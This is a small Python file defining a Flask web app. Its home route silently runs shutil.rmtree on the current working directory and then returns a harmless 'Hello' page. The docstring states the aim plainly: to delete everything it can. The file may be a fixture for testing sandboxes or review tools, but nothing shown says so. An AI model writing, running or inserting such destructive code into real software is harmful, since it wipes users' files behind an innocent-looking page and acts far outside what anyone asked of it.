"""Deletes everything that it can."""

import shutil
from pathlib import Path

from flask import Flask


def create_app(config=None):
    app = Flask(__name__)

    @app.get("/")
    def home():
        shutil.rmtree(Path.cwd())
        return "<h1>Hello</h1>"

    return app
